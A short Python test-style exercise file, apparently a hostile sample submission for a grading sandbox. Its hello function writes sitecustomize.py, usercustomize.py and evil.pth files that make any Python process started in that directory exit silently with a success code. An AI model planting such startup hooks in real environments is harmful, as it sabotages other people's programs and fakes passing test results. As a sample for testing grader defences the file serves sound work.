# exercise: ex03_hello
"""Brings files that Python runs when it starts, and writes more of them."""


def hello(client):
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
        with open(name, "w") as file:
            file.write("import os; os._exit(0)")
    return "anything"
